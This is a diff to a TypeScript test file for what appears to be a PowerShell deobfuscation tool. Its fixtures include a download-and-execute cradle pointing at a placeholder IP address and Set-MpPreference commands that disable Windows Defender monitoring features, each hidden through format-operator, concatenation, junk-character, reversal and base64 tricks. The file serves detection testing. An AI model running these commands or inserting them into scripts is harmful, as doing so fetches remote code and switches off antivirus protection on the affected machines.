@@ -2,7 +2,7 @@ import { deobfCases, enc } from "./_deobf_testing.ts";
 import { deflateRawSync } from "node:zlib";
 
 const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/s.ps1')";
-const AV = "Set-MpPreference -DisableRealtimeMonitoring $true";
+const AV = "Set-MpPreference -DisableBehaviorMonitoring $true";
 const l1 = (u: Uint8Array) => btoa(Array.from(u, (c) => String.fromCharCode(c)).join(""));
 
 deobfCases("powershell", [
@@ -16,11 +16,11 @@ deobfCases("powershell", [
       // Reversed string, indexed backwards.
       `$r="${enc.rev(CRADLE)}"; iex (-join $r[-1..-($r.Length)])`,
       // Format-operator reordering.
-      `iex ("{1}{0}{2}" -f 'MpPreference -DisableRealtime','Set-','Monitoring $true')`,
+      `iex ("{1}{0}{2}" -f 'MpPreference -DisableBehavior','Set-','Monitoring $true')`,
       // Concatenated cmdlet with defender switch.
-      `iex ('Set-Mp'+'Preference -Disable'+'RealtimeMonitoring $true')`,
+      `iex ('Set-Mp'+'Preference -Disable'+'ScriptScanning $true')`,
       // Junk characters replaced away.
-      `iex ('S~e~t~-~M~p~P~r~e~f~e~r~e~n~c~e -DisableRealtimeMonitoring $true' -replace '~','')`,
+      `iex ('S~e~t~-~M~p~P~r~e~f~e~r~e~n~c~e -DisableIntrusionPreventionSystem $true' -replace '~','')`,
       // UTF-16LE base64 decoded through [Text.Encoding]::Unicode.
       `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${
         enc.u16b64(CRADLE)
